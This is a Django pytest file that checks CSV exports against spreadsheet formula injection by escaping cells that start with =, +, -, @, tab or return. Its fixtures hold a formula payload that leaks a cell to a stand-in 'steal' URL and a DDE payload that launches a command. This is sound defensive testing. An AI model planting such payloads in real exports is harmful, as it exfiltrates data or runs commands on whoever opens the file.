"""Every CSV export is safe to open in a spreadsheet: no cell a stranger wrote runs as a formula."""

import csv
import io

import pytest

from django.urls import reverse
from django.utils import timezone

from messaging.models import Message
from messaging.statuses import Status
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


# What strangers wrote -> what the export must say.
BODIES = {
    "-20% off today": "'-20% off today",  # the campaign's own text
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 call me": "'+1 call me",
    "\tindented": "'\tindented",
    "\rreturn": "'\rreturn",
    "=2+3": "'=2+3",
    "fine, thanks": "fine, thanks",
}


@pytest.fixture
def strangers_text(campaign):
    """A campaign and a lead named like formulas, and replies starting with formula signs."""
    campaign.name = "@Spring sale"
    campaign.save()
    lead = factories.LeadFactory(
        account=campaign.account,
        phone="+12025550123",
        first_name=HYPERLINK,
        last_name="",
    )
    factories.MessageFactory(
        campaign=campaign, lead=lead, body="-20% off today", status=Status.DELIVERED
    )
    for body in list(BODIES)[1:]:
        Message.objects.create(
            account=campaign.account,
            lead=lead if body != "fine, thanks" else None,
            # a sender id the provider passed on as is
            phone="+12025550123" if body != "fine, thanks" else "=1+1",
            body=body,
            direction=Message.Direction.INBOUND,
            status=Status.RECEIVED,
            final_at=timezone.now(),
        )
    return campaign


def portal_export(client, campaign, api, on_commit):
    member = factories.MembershipFactory(account=campaign.account).user
    member.save()
    client.force_login(member)
    return client.get(reverse("portal:messaging_message_export"))


def api_export(client, campaign, api, on_commit):
    return api.get(reverse("api:message-export"))


def campaign_export(client, campaign, api, on_commit):
    return api.get(reverse("api:campaign-export", args=[campaign.pk]))


def export_file(client, campaign, api, on_commit):
    """Written to a file by the worker, which starts once the request commits."""
    url = reverse("api:message-export-create")
    with on_commit(execute=True):
        response = api.post(url)
    assert response.status_code == 202, response.content
    return api.get(reverse("api:export-download", args=[response.json()["id"]]))


@pytest.mark.parametrize(
    "export", [portal_export, api_export, campaign_export, export_file]
)
def test_cells_that_would_be_formulas_are_written_as_text(
    client, api, strangers_text, export, django_capture_on_commit_callbacks
):
    # when
    response = export(client, strangers_text, api, django_capture_on_commit_callbacks)
    # then
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert len(rows) == (1 if export == campaign_export else len(BODIES))
    for row in rows:
        assert row["body"] == BODIES[row["body"].removeprefix("'")]
        assert row["lead_name"] == ("'" + HYPERLINK if row["lead_id"] else "")
        assert row["campaign"] == ("'@Spring sale" if row["campaign_id"] else "")
        # A number in E.164 stays as it is, to be imported again; anything else is text.
        assert row["phone"] == ("+12025550123" if row["lead_id"] else "'=1+1")
    starts = ("=", "+", "-", "@", "\t", "\r")
    risky = {cell for row in rows for cell in row.values() if cell.startswith(starts)}
    assert risky == {"+12025550123"}
